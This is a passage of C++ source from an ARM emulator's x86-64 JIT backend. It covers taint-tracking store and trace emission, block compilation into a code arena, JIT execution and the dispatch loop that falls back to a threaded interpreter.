void emit_taint_store(Asm& a, const TaintJitView& v, const Uop& u,
                      MemVar var, u32 len, TraceEmit& ts) {
  ++ts.fold_insns;
  a.mov_rm32(RSI, RBX, reg_off(u.b));
  if (var != MemVar::kPost && u.imm != 0) a.alu_ri32(0, RSI, u.imm);
  std::vector<std::size_t> slow;
  a.cmp_mi32(RBP, 4 * u.a, kTaintClear);
  slow.push_back(a.jcc(CC_NE));
  emit_shadow_probe(a, v, len, slow);
  a.shift_ri32(4, RAX, 2);
  a.mov_rm32x(RCX, RDX, RAX, 0);
  if (len >= 2) a.alu_rmx32(0x0B, RCX, RDX, RAX, 4);
  if (len == 4) {
    a.alu_rmx32(0x0B, RCX, RDX, RAX, 8);
    a.alu_rmx32(0x0B, RCX, RDX, RAX, 12);
  }
  a.test_rr32(RCX, RCX);
  const std::size_t done = a.jcc(CC_E);  // clear over clear: exact no-op
  for (const std::size_t f : slow) a.bind(f);  // fall-through joins the slow path
  a.mov_rr64(RDI, R15);  // esi = addr already in place
  a.mov_ri32(RDX, len);
  a.mov_rm32(RCX, RBP, 4 * u.a);
  a.mov_ri64(RAX, reinterpret_cast<u64>(&JitRun::co_shadow_write));
  a.call_r(RAX);
  a.bind(done);
}

// Per-op traced prefix, emitted immediately before the op's clean template.
// Handles the whole traced-pass delta for the op — inline transfers, step
// callouts, and the pre-terminal flush — so the clean switch cases need no
// per-case knowledge of the traced stream. Returns false when the block
// cannot carry an exact traced body (generic steps, shapes whose early
// dispatch would diverge); the caller abandons the traced pass and keeps
// the clean body.
bool emit_trace_prefix(Asm& a, const EmitEnv& e, TraceEmit& ts, const Uop& u,
                       UK k, u32 ri) {
  const std::vector<TraceStep>& steps = e.blk->traced;
  const std::vector<TbInsn>& insns = e.blk->tb->insns;
  const u32 n = e.blk->n_insns;

  // Inline-or-callout for one register-transfer step. Early dispatch of a
  // callout is exact here: prepared thunks re-check their own condition
  // against state no earlier instruction of the same op has modified.
  const auto fused_alu = [&](u32 idx) -> bool {
    const TraceStep& st = steps[idx];
    if (st.generic) return false;
    if (st.op.fn == nullptr) return true;
    if (emit_taint_alu(a, insns[idx].insn, ts.elide[idx], ts)) return true;
    emit_trace_callout(a, e, ts, idx, ri);
    return true;
  };
  const auto fused_load = [&](u32 idx, MemVar var, u32 len) -> bool {
    const TraceStep& st = steps[idx];
    if (st.generic) return false;
    if (st.op.fn != nullptr) {
      emit_taint_load(a, *ts.view, u, var, len, ts.elide[idx], ts);
    }
    return true;
  };
  const auto step_callout = [&](u32 idx) -> bool {
    const TraceStep& st = steps[idx];
    if (st.generic) return false;
    if (st.op.fn != nullptr) emit_trace_callout(a, e, ts, idx, ri);
    return true;
  };

  const u32 ku = static_cast<u32>(k);
  if (ku >= static_cast<u32>(UK::k_and_i) &&
      ku <= static_cast<u32>(UK::k_smull)) {
    return fused_alu(ri);
  }
  if (ku >= static_cast<u32>(UK::k_ldr_off) &&
      ku <= static_cast<u32>(UK::k_ldrsh_post)) {
    const u32 idx = ku - static_cast<u32>(UK::k_ldr_off);
    const u32 group = idx / 3;
    const u32 len = group == 0 ? 4 : (group == 2 || group == 4) ? 2 : 1;
    return fused_load(ri, static_cast<MemVar>(idx % 3), len);
  }
  if (ku >= static_cast<u32>(UK::k_str_off) &&
      ku <= static_cast<u32>(UK::k_strh_post)) {
    const TraceStep& st = steps[ri];
    if (st.generic) return false;
    if (st.op.fn != nullptr) {
      const u32 idx = ku - static_cast<u32>(UK::k_str_off);
      const u32 group = idx / 3;
      const u32 len = group == 0 ? 4 : group == 1 ? 1 : 2;
      emit_taint_store(a, *ts.view, u, static_cast<MemVar>(idx % 3), len,
                       ts);
    }
    return true;
  }
  switch (k) {
    case UK::k_movw_movt:
      return fused_alu(ri) && ri + 1 < n && fused_alu(ri + 1);
    case UK::k_ldr_addi:
      return fused_load(ri, MemVar::kOff, 4) && ri + 1 < n &&
             fused_alu(ri + 1);
    case UK::k_stm:
    case UK::k_ldm:
    case UK::k_exec:
    case UK::k_exec_dead:
      return step_callout(ri);
    case UK::k_cmp0_b:
    case UK::k_cmp_i_b:
    case UK::k_cmp_r_b:
    case UK::k_subs_i_b: {
      // The compare/subtract step prefixes normally (it is unconditional by
      // lowering). The branch step must be a provable no-op: running it
      // here would test the condition against the *old* flags.
      if (!fused_alu(ri)) return false;
      if (ri + 1 >= n || steps[ri + 1].generic ||
          steps[ri + 1].op.fn != nullptr) {
        return false;
      }
      emit_trace_flush(a, ts);
      return true;
    }
    case UK::k_b_al:
    case UK::k_bl_al:
    case UK::k_b_cond:
    case UK::k_bx_term:
    case UK::k_svc_term:
    case UK::k_exec_term:
      if (!step_callout(ri)) return false;
      emit_trace_flush(a, ts);
      return true;
    case UK::k_end:
      emit_trace_flush(a, ts);
      return true;
    default:
      return false;  // k_enter / kCount: the clean pass bails too
  }
}

}  // namespace

bool JitRun::compile(Cpu& cpu, ThreadedBlock& blk) {
  JitEngine& eng = *cpu.jit_engine_;
  auto jb = std::make_shared<JitBlock>();
  jb->blk = &blk;

  EmitEnv e;
  e.eng = &eng;
  e.blk = &blk;
  e.jb = jb.get();
  e.links = &cpu.jit_links_;
  e.version_addr = cpu.tb_cache_.version_addr();

  const TranslationBlock& tb = *blk.tb;
  const u32 n_total = blk.n_insns;
  Asm a;

  // A traced body is worth emitting only under the fusable hook shape the
  // trampoline dispatches here: exactly one instruction hook, fused through
  // the trace emitter, with the client's taint view installed.
  const bool want_traced = cpu.taint_jit_view_.reg_labels != nullptr &&
                           cpu.trace_emitter_ && cpu.insn_hooks_.size() == 1;
  if (want_traced) ThreadedRun::build_traced(cpu, blk);

  // Both bodies (clean, traced) share one emission pass over the op stream;
  // `ts == nullptr` is the clean pass. Returns false when the stream has no
  // dense lowering (clean pass: the block stays threaded) or the traced
  // prefix cannot be exact (traced pass: the clean body alone is kept).
  const auto emit_body = [&](TraceEmit* ts) -> bool {
    // --- Block entry: budget fence + exec_count (threaded L_enter with the
    // gate elided — stream selection happened before dispatch, and hook
    // topology cannot change inside a segment without surfacing).
    a.mov_rm64(RAX, R15, kCtxDone);
    a.alu_ri64(0, RAX, n_total);
    a.cmp_rm64(RAX, R15, kCtxBudget);
    const std::size_t budget_ok = a.jcc(CC_BE);
    a.mov_mi8(RBX, kThumbOff, tb.thumb ? 1 : 0);
    a.mov_mi32(RBX, kPcOff, tb.pc);
    emit_epilogue_jump(a, e);
    a.bind(budget_ok);
    a.mov_ri64(RAX, reinterpret_cast<u64>(&blk.tb->exec_count));
    a.inc_m64(RAX, 0);
    if (ts != nullptr) {
      a.mov_ri64(RAX, reinterpret_cast<u64>(&cpu.jit_traced_blocks_));
      a.inc_m64(RAX, 0);
      // Pin the register label file for the whole traced body. Callouts
      // preserve it (callee-saved); clean templates never touch RBP.
      a.mov_ri64(RBP,
                 reinterpret_cast<u64>(cpu.taint_jit_view_.reg_labels));
    }

    // --- Body + terminal. `ri` counts the instructions retired by the body
    // templates emitted so far (they add nothing to ctx.done at runtime;
    // the exit sites bake the totals).
    u32 ri = 0;
    bool terminated = false;
    for (std::size_t i = 1; i < blk.ops.size() && !terminated; ++i) {
      const Uop& u = blk.ops[i];
      const UK k = uop_kind(u.label);
      if (ts != nullptr && !emit_trace_prefix(a, e, *ts, u, k, ri)) {
        return false;
      }
      switch (k) {
        // --- Flagless data processing ------------------------------------
        case UK::k_and_i:
        case UK::k_eor_i:
        case UK::k_sub_i:
        case UK::k_add_i:
        case UK::k_orr_i: {
          const u8 ext = k == UK::k_and_i ? 4
                       : k == UK::k_eor_i ? 6
                       : k == UK::k_sub_i ? 5
                       : k == UK::k_add_i ? 0
                                          : 1;
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          a.alu_ri32(ext, RAX, u.imm);
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        }
        case UK::k_and_r:
        case UK::k_eor_r:
        case UK::k_sub_r:
        case UK::k_add_r:
        case UK::k_orr_r: {
          const u8 opc = k == UK::k_and_r ? 0x23
                       : k == UK::k_eor_r ? 0x33
                       : k == UK::k_sub_r ? 0x2B
                       : k == UK::k_add_r ? 0x03
                                          : 0x0B;
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          a.alu_rm32(opc, RAX, RBX, reg_off(u.c));
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        }
        case UK::k_rsb_i:
          a.mov_ri32(RAX, u.imm);
          a.alu_rm32(0x2B, RAX, RBX, reg_off(u.b));
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        case UK::k_rsb_r:
          a.mov_rm32(RAX, RBX, reg_off(u.c));
          a.alu_rm32(0x2B, RAX, RBX, reg_off(u.b));
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        case UK::k_adc_i:
        case UK::k_adc_r:
          a.movzx8_rm(RCX, RBX, kFlagC);
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          if (k == UK::k_adc_i) a.alu_ri32(0, RAX, u.imm);
          else a.alu_rm32(0x03, RAX, RBX, reg_off(u.c));
          a.alu_rr32(0x03, RAX, RCX);
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        case UK::k_sbc_i:
        case UK::k_sbc_r:
          a.movzx8_rm(RCX, RBX, kFlagC);
          a.alu_ri32(6, RCX, 1);  // borrow = !c
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          if (k == UK::k_sbc_i) a.alu_ri32(5, RAX, u.imm);
          else a.alu_rm32(0x2B, RAX, RBX, reg_off(u.c));
          a.alu_rr32(0x2B, RAX, RCX);
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        case UK::k_rsc_i:
        case UK::k_rsc_r:
          a.movzx8_rm(RCX, RBX, kFlagC);
          a.alu_ri32(6, RCX, 1);  // borrow = !c
          if (k == UK::k_rsc_i) a.mov_ri32(RAX, u.imm);
          else a.mov_rm32(RAX, RBX, reg_off(u.c));
          a.alu_rm32(0x2B, RAX, RBX, reg_off(u.b));
          a.alu_rr32(0x2B, RAX, RCX);
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        case UK::k_mov_i:
          a.mov_mi32(RBX, reg_off(u.a), u.imm);
          ++ri;
          break;
        case UK::k_mov_r:
          a.mov_rm32(RAX, RBX, reg_off(u.c));
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        case UK::k_bic_i:
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          a.alu_ri32(4, RAX, ~u.imm);
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        case UK::k_bic_r:
          a.mov_rm32(RCX, RBX, reg_off(u.c));
          a.not_r32(RCX);
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          a.alu_rr32(0x23, RAX, RCX);
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        case UK::k_mvn_i:
          a.mov_mi32(RBX, reg_off(u.a), ~u.imm);
          ++ri;
          break;
        case UK::k_mvn_r:
          a.mov_rm32(RAX, RBX, reg_off(u.c));
          a.not_r32(RAX);
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;

        // --- Flag-setting compares / arithmetic --------------------------
        case UK::k_cmp_i0:
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          a.test_rr32(RAX, RAX);
          a.setcc_m(CC_S, RBX, kFlagN);
          a.setcc_m(CC_E, RBX, kFlagZ);
          a.mov_mi8(RBX, kFlagC, 1);
          a.mov_mi8(RBX, kFlagV, 0);
          ++ri;
          break;
        case UK::k_cmp_i:
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          a.alu_ri32(7, RAX, u.imm);
          emit_flags_sub(a);
          ++ri;
          break;
        case UK::k_cmp_r:
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          a.alu_rm32(0x3B, RAX, RBX, reg_off(u.c));
          emit_flags_sub(a);
          ++ri;
          break;
        case UK::k_cmn_i:
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          a.alu_ri32(0, RAX, u.imm);
          emit_flags_add(a);
          ++ri;
          break;
        case UK::k_cmn_r:
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          a.alu_rm32(0x03, RAX, RBX, reg_off(u.c));
          emit_flags_add(a);
          ++ri;
          break;
        case UK::k_subs_i:
        case UK::k_subs_r:
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          if (k == UK::k_subs_i) a.alu_ri32(5, RAX, u.imm);
          else a.alu_rm32(0x2B, RAX, RBX, reg_off(u.c));
          emit_flags_sub(a);
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        case UK::k_adds_i:
        case UK::k_adds_r:
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          if (k == UK::k_adds_i) a.alu_ri32(0, RAX, u.imm);
          else a.alu_rm32(0x03, RAX, RBX, reg_off(u.c));
          emit_flags_add(a);
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;

        // --- Wide moves / multiplies / extends / shifts ------------------
        case UK::k_movw:
          a.mov_mi32(RBX, reg_off(u.a), u.imm);
          ++ri;
          break;
        case UK::k_movt:
          // (r & 0xFFFF) | (imm << 16) == a 16-bit store to the high half.
          a.mov_mi16(RBX, reg_off(u.a) + 2, static_cast<u16>(u.imm));
          ++ri;
          break;
        case UK::k_mul:
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          a.imul_rm32(RAX, RBX, reg_off(u.c));
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        case UK::k_sxtb:
          a.movsx8_rm(RAX, RBX, reg_off(u.b));
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        case UK::k_sxth:
          a.movsx16_rm(RAX, RBX, reg_off(u.b));
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        case UK::k_uxtb:
          a.movzx8_rm(RAX, RBX, reg_off(u.b));
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        case UK::k_uxth:
          a.movzx16_rm(RAX, RBX, reg_off(u.b));
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        case UK::k_lsl_i:
        case UK::k_lsr_i:
        case UK::k_asr_i:
        case UK::k_ror_i: {
          const u8 ext = k == UK::k_lsl_i ? 4
                       : k == UK::k_lsr_i ? 5
                       : k == UK::k_asr_i ? 7
                                          : 1;
          a.mov_rm32(RAX, RBX, reg_off(u.c));
          a.shift_ri32(ext, RAX, static_cast<u8>(u.imm));
          a.mov_mr32(RBX, reg_off(u.a), RAX);
          ++ri;
          break;
        }
        case UK::k_umull:
        case UK::k_smull:
          a.mov_rm32(RAX, RBX, reg_off(u.c));
          a.mul1_m32(k == UK::k_umull ? 4 : 5, RBX, reg_off(u.d));
          a.mov_mr32(RBX, reg_off(u.a), RAX);  // lo then hi, like execute()
          a.mov_mr32(RBX, reg_off(u.b), RDX);
          ++ri;
          break;

        // --- Loads / stores (inline TLB probe) ---------------------------
        case UK::k_ldr_off:
        case UK::k_ldr_pre:
        case UK::k_ldr_post:
        case UK::k_ldrb_off:
        case UK::k_ldrb_pre:
        case UK::k_ldrb_post:
        case UK::k_ldrh_off:
        case UK::k_ldrh_pre:
        case UK::k_ldrh_post:
        case UK::k_ldrsb_off:
        case UK::k_ldrsb_pre:
        case UK::k_ldrsb_post:
        case UK::k_ldrsh_off:
        case UK::k_ldrsh_pre:
        case UK::k_ldrsh_post: {
          const u32 idx =
              static_cast<u32>(k) - static_cast<u32>(UK::k_ldr_off);
          const u32 group = idx / 3;  // ldr, ldrb, ldrh, ldrsb, ldrsh
          const auto var = static_cast<MemVar>(idx % 3);
          const u32 len = group == 0 ? 4 : (group == 2 || group == 4) ? 2 : 1;
          emit_load(a, u, var, len, /*is_signed=*/group >= 3);
          ++ri;
          break;
        }
        case UK::k_str_off:
        case UK::k_str_pre:
        case UK::k_str_post:
        case UK::k_strb_off:
        case UK::k_strb_pre:
        case UK::k_strb_post:
        case UK::k_strh_off:
        case UK::k_strh_pre:
        case UK::k_strh_post: {
          const u32 idx =
              static_cast<u32>(k) - static_cast<u32>(UK::k_str_off);
          const u32 group = idx / 3;  // str, strb, strh
          const auto var = static_cast<MemVar>(idx % 3);
          const u32 len = group == 0 ? 4 : group == 1 ? 1 : 2;
          emit_store(a, e, u, var, len, ri, ts);
          ++ri;
          break;
        }

        // --- Superword-fused pairs ---------------------------------------
        case UK::k_movw_movt:
          a.mov_mi32(RBX, reg_off(u.a), u.imm);
          ri += 2;
          break;
        case UK::k_ldr_addi:
          emit_load(a, u, MemVar::kOff, 4, false);
          a.add_mi32(RBX, reg_off(u.d), u.x);
          ri += 2;
          break;
        case UK::k_stm: {
          a.mov_rr64(RDI, R15);
          a.mov_ri64(RSI, reinterpret_cast<u64>(u.p));
          a.mov_ri64(RAX, reinterpret_cast<u64>(&co_stm));
          a.call_r(RAX);
          a.test_rr32(RAX, RAX);
          const std::size_t all_hit = a.jcc(CC_NE);
          emit_dead_check(a, e, ri, u.x, ts);
          a.bind(all_hit);
          ++ri;
          break;
        }
        case UK::k_ldm:
          a.mov_rr64(RDI, R15);
          a.mov_ri64(RSI, reinterpret_cast<u64>(u.p));
          a.mov_ri64(RAX, reinterpret_cast<u64>(&co_ldm));
          a.call_r(RAX);
          ++ri;
          break;

        // --- Generic body instructions -----------------------------------
        case UK::k_exec:
        case UK::k_exec_dead: {
          a.mov_rr64(RDI, R15);
          a.mov_ri64(RSI, reinterpret_cast<u64>(u.p));
          a.mov_ri32(RDX, u.imm);  // the PC execute() expects
          a.mov_ri64(RAX, reinterpret_cast<u64>(&co_exec));
          a.call_r(RAX);
          a.test_rr64(RAX, RAX);
          const std::size_t ok = a.jcc(CC_E);
          // Exception: the faulting instruction did not retire and the PC
          // already points at it (co_exec materialised it).
          if (ts != nullptr) emit_trace_spill(a, *ts);
          if (ri > 0) a.add_mi64(R15, kCtxDone, ri);
          emit_epilogue_jump(a, e);
          a.bind(ok);
          if (k == UK::k_exec_dead) {
            // execute() already advanced the PC, so the dead exit surfaces
            // without rewriting it; the retire count still lands.
            a.mov_ri64(RAX, reinterpret_cast<u64>(&blk.tb->dead));
            a.cmp_mi8(RAX, 0, 0);
            const std::size_t alive = a.jcc(CC_E);
            if (ts != nullptr) emit_trace_spill(a, *ts);
            a.add_mi64(R15, kCtxDone, ri + 1);
            emit_epilogue_jump(a, e);
            a.bind(alive);
          }
          ++ri;
          break;
        }

        // --- Fused compare-and-branch terminals --------------------------
        // Retire accounting lands *before* the flag computation (the 64-bit
        // add clobbers the host flags); setcc/mov preserve them, so the
        // conditional arms consume the live host flags directly.
        case UK::k_cmp0_b: {
          a.add_mi64(R15, kCtxDone, ri + 2);
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          a.test_rr32(RAX, RAX);
          a.setcc_m(CC_S, RBX, kFlagN);
          a.setcc_m(CC_E, RBX, kFlagZ);
          a.mov_mi8(RBX, kFlagC, 1);
          a.mov_mi8(RBX, kFlagV, 0);
          const u32 from = static_cast<const TbInsn*>(u.p)->pc;
          emit_cond_arms(a, e, kCcCmp0[u.a], from, u.imm, u.x);
          terminated = true;
          break;
        }
        case UK::k_cmp_i_b: {
          const auto* ti = static_cast<const TbInsn*>(u.p);
          a.add_mi64(R15, kCtxDone, ri + 2);
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          a.alu_ri32(7, RAX, ti->insn.imm);
          emit_flags_sub(a);
          emit_cond_arms(a, e, kCcSub[u.a], ti->pc + ti->insn.length, u.imm,
                         u.x);
          terminated = true;
          break;
        }
        case UK::k_cmp_r_b: {
          a.add_mi64(R15, kCtxDone, ri + 2);
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          a.alu_rm32(0x3B, RAX, RBX, reg_off(u.c));
          emit_flags_sub(a);
          const u32 from = static_cast<const TbInsn*>(u.p)->pc;
          emit_cond_arms(a, e, kCcSub[u.a], from, u.imm, u.x);
          terminated = true;
          break;
        }
        case UK::k_subs_i_b: {
          const auto* ti = static_cast<const TbInsn*>(u.p);
          a.add_mi64(R15, kCtxDone, ri + 2);
          a.mov_rm32(RAX, RBX, reg_off(u.b));
          a.alu_ri32(5, RAX, ti->insn.imm);
          emit_flags_sub(a);
          a.mov_mr32(RBX, reg_off(u.a), RAX);  // mov preserves host flags
          emit_cond_arms(a, e, kCcSub[u.d], ti->pc + ti->insn.length, u.imm,
                         u.x);
          terminated = true;
          break;
        }

        // --- Branch terminals --------------------------------------------
        case UK::k_b_al: {
          a.add_mi64(R15, kCtxDone, ri + 1);
          const u32 from = static_cast<const TbInsn*>(u.p)->pc;
          emit_link(a, e, 0, from, u.imm, true);
          terminated = true;
          break;
        }
        case UK::k_bl_al: {
          a.mov_mi32(RBX, reg_off(kRegLR), tb.thumb ? (u.x | 1u) : u.x);
          a.add_mi64(R15, kCtxDone, ri + 1);
          const u32 from = static_cast<const TbInsn*>(u.p)->pc;
          emit_link(a, e, 0, from, u.imm, true);
          terminated = true;
          break;
        }
        case UK::k_b_cond: {
          a.add_mi64(R15, kCtxDone, ri + 1);
          emit_cond_eval(a, static_cast<Cond>(u.a));
          const u32 from = static_cast<const TbInsn*>(u.p)->pc;
          const std::size_t taken_j = a.jcc(CC_NE);  // al != 0
          emit_link(a, e, 1, from, u.x, false);
          a.bind(taken_j);
          emit_link(a, e, 0, from, u.imm, true);
          terminated = true;
          break;
        }
        case UK::k_bx_term:
          a.add_mi64(R15, kCtxDone, ri + 1);  // bx always retires
          emit_dynamic_terminal(
              a, e, u, reinterpret_cast<const void*>(&JitRun::co_bx));
          terminated = true;
          break;
        case UK::k_exec_term:
          // The callout retires the terminal itself iff execute() succeeds.
          if (ri > 0) a.add_mi64(R15, kCtxDone, ri);
          emit_dynamic_terminal(
              a, e, u, reinterpret_cast<const void*>(&JitRun::co_exec_term));
          terminated = true;
          break;
        case UK::k_svc_term:
          if (ri > 0) a.add_mi64(R15, kCtxDone, ri);
          emit_dynamic_terminal(
              a, e, u, reinterpret_cast<const void*>(&JitRun::co_svc_term));
          terminated = true;
          break;
        case UK::k_end:
          if (ri > 0) a.add_mi64(R15, kCtxDone, ri);
          emit_link(a, e, 1, 0, u.imm, false);
          terminated = true;
          break;

        case UK::k_enter:
        case UK::kCount:
          return false;  // malformed stream; the block stays threaded
      }
    }
    return terminated;
  };

  if (!emit_body(nullptr)) return false;
  std::size_t traced_pos = 0;
  bool have_traced = false;
  if (want_traced) {
    // Second pass: the traced body lands in the same Asm buffer (and so the
    // same arena allocation) right after the clean body. A bail truncates
    // back to the clean body alone — gate-fired executions then fall back
    // to the threaded traced stream.
    traced_pos = a.size();
    TraceEmit ts;
    ts.view = &cpu.taint_jit_view_;
    ts.elide = plan_elision(blk);
    if (emit_body(&ts)) {
      have_traced = true;
    } else {
      a.out.resize(traced_pos);
    }
  }

  u8* code = eng.arena.alloc(a.size());
  if (code == nullptr) {
    if (a.size() > eng.arena.capacity()) {
      // Permanently too large for this arena: park a tombstone so the
      // trampoline stops recompiling (and re-flushing) on every dispatch.
      jb->code = nullptr;
      jb->arena_gen = eng.generation;
      blk.jit = std::move(jb);
    } else {
      eng.flush_pending = true;
    }
    return false;
  }
  eng.arena.begin_write();
  std::memcpy(code, a.out.data(), a.size());
  eng.arena.end_write();
  jb->code = code;
  jb->traced_entry = have_traced ? code + traced_pos : nullptr;
  jb->code_size = static_cast<u32>(a.size());
  jb->arena_gen = eng.generation;
  blk.jit = std::move(jb);
  ++cpu.jit_blocks_compiled_;
  cpu.jit_bytes_emitted_ += a.size();
  return true;
}

// --- Execution ----------------------------------------------------------

u64 JitRun::exec(Cpu& cpu, ThreadedBlock& entry, const u8* at, u64 budget) {
  JitEngine& eng = *cpu.jit_engine_;
  std::exception_ptr eptr;
  JitCtx ctx;
  ctx.cpu = &cpu;
  ctx.s = &cpu.state_;
  ctx.mem = &cpu.memory_;
  ctx.budget = budget;
  // Live instruction hooks force every inter-block edge through the slow
  // resolver: stream selection (clean vs traced) must be re-decided per
  // crossing, so inline link fast paths (whose patched targets are always
  // clean entries) stay disengaged.
  ctx.edge_slow = (!cpu.branch_hooks_.empty() || cpu.has_low_helpers_ ||
                   !cpu.insn_hooks_.empty())
                      ? 1
                      : 0;
  ctx.eptr = &eptr;
  const u64 links_before = cpu.jit_links_;
  eng.entry(&ctx, at);
  cpu.retired_ += ctx.done - ctx.flushed;
  // Every link follow (inline host jumps and resolve()-served ones alike)
  // is a block transition that never touched the TB cache: fold them into
  // the hit counters so hit_rate() stays comparable across tiers without
  // counter traffic inside emitted code.
  cpu.tb_cache_.count_front_hits(cpu.jit_links_ - links_before);
  if (ctx.exit_exc != 0) std::rethrow_exception(eptr);
  return ctx.done;
}

bool JitRun::ensure_engine(Cpu& cpu) {
  if (cpu.jit_engine_ == nullptr) {
    cpu.jit_engine_ =
        std::make_unique<JitEngine>(cpu.jit_arena_bytes_, cpu.jit_wx_);
  }
  JitEngine& eng = *cpu.jit_engine_;
  if (!eng.arena.valid()) return false;
  const mem::AddressSpace::TlbView view = cpu.memory_.tlb_view();
  if (view.entry_size != 16 || view.page_offset != 0 ||
      view.host_offset != 8 ||
      view.slot_count != mem::AddressSpace::kTlbSlots) {
    return false;  // TLB layout drifted from the baked probe templates
  }
  if (eng.entry == nullptr && !emit_stubs(cpu, eng)) return false;
  return true;
}

bool JitRun::arena_flush(Cpu& cpu) {
  JitEngine& eng = *cpu.jit_engine_;
  cpu.flush_blocks();
  cpu.tb_cache_.drain_graveyard();  // caller guarantees exec_depth_ == 0
  eng.arena.reset();
  ++eng.generation;
  eng.entry = nullptr;
  eng.epilogue = nullptr;
  eng.flush_pending = false;
  ++cpu.jit_arena_flushes_;
  return emit_stubs(cpu, eng);
}

// --- Trampoline ---------------------------------------------------------

bool Cpu::run_jit(u64 max_steps) {
  // run_threaded's twin for the jit tier: identical dispatch, but clean
  // blocks (no live instruction hooks) execute as host code. Hooked
  // execution and uncompiled blocks ride the threaded streams — the
  // semantic reference — per dispatch.
  if (!JitRun::ensure_engine(*this)) {
    jit_enabled_ = false;  // host code cannot run here; degrade for good
    return run_threaded(max_steps);
  }
  JitEngine& eng = *jit_engine_;
  u64 done = 0;
  while (done < max_steps) {
    if (eng.flush_pending && exec_depth_ == 0) {
      // Arena-exhaustion safe point: recycle the whole code arena.
      if (!JitRun::arena_flush(*this)) {
        jit_enabled_ = false;
        return run_threaded(max_steps - done);
      }
    }
    const GuestAddr pc = state_.pc();
    if (pc == kHostReturnAddr) return true;
    if (state_.itstate != 0) {
      // Mid-IT-block landing: step carefully until the IT run drains.
      step();
      ++done;
      continue;
    }
    if (pc >= kHelperWindowBase ||
        (has_low_helpers_ && helpers_.count(pc) != 0)) {
      step();  // helper dispatch
      ++done;
      continue;
    }
    const u64 key = TbCache::key(pc, state_.thumb);
    TbFrontEntry& fe = tb_front_[static_cast<u32>(
        (key * 0x9E3779B97F4A7C15ull) >> (64 - kTbFrontBits))];
    TranslationBlock* tb;
    if (fe.key == key && fe.version == tb_cache_.version()) {
      tb_cache_.count_front_hit();
      tb = fe.tb;
    } else {
      std::shared_ptr<TranslationBlock> found =
          tb_cache_.lookup(pc, state_.thumb);
      if (found == nullptr) {
        found = translate(pc, state_.thumb);
        if (found == nullptr) {
          // Undecodable head instruction: let step() raise the fault.
          step();
          ++done;
          continue;
        }
        tb_cache_.insert(found);
      }
      tb = found.get();  // owned by the cache (or its graveyard) from here
      fe = {key, tb_cache_.version(), tb};
    }
    if (tb->threaded == nullptr) ThreadedRun::emit(*this, *tb);
    ThreadedBlock& blk = *tb->threaded;
    // Live instruction hooks ride the jit only in the fusable shape the
    // traced streams were compiled for: a single fused-emitting hook behind
    // the epoch-memoised block gate, with the taint view installed. Every
    // other hook configuration rides the threaded tier (its gate/traced
    // machinery is the semantic reference).
    const bool hooks = !insn_hooks_.empty();
    bool use_jit =
        !hooks ||
        (has_taint_jit_view() && trace_emitter_ && insn_hooks_.size() == 1 &&
         gated_hooks_ == static_cast<int>(insn_hooks_.size()) && block_gate_);
    if (use_jit &&
        (blk.jit == nullptr || blk.jit->arena_gen != eng.generation)) {
      use_jit = JitRun::compile(*this, blk);
    }
    if (use_jit) use_jit = blk.jit != nullptr && blk.jit->code != nullptr;
    const u8* at = use_jit ? blk.jit->code : nullptr;
    if (use_jit && hooks) {
      if (JitRun::gate_fire(*this, *tb)) {
        // Traced stream (the body counts its own entry); null means the
        // traced emission bailed and this block falls back per dispatch.
        at = blk.jit->traced_entry;
        use_jit = at != nullptr;
      } else {
        // Gate skip: the clean stream, with the threaded tier's fast-path
        // accounting (per-crossing bookkeeping continues in resolve()).
        ++fastpath_blocks_;
        fastpath_insns_ += blk.n_insns;
      }
    }
    if (hooks && !use_jit) ++jit_fallback_blocks_;
    ++exec_depth_;
    u64 block_done = 0;
    try {
      block_done = use_jit
                       ? JitRun::exec(*this, blk, at, max_steps - done)
                       : ThreadedRun::exec(*this, blk, max_steps - done);
    } catch (...) {
      --exec_depth_;
      throw;
    }
    --exec_depth_;
    done += block_done;
    if (block_done == 0) {
      // The remaining budget can't cover even this block: partial replay
      // through the careful per-instruction path.
      ++exec_depth_;
      try {
        done += exec_block(*tb, max_steps - done);
      } catch (...) {
        --exec_depth_;
        throw;
      }
      --exec_depth_;
    }
    // Between blocks at top level is a safe point for killed-block cleanup.
    if (exec_depth_ == 0) tb_cache_.drain_graveyard();
  }
  return state_.pc() == kHostReturnAddr;
}

#else  // !NDROID_JIT_X64

// Stub backend: `--engine jit` degrades to the threaded tier with superword
// fusion. set_jit_enabled already refuses to arm the flag (jit_available()
// is false), so run_jit is only a defensive forward.

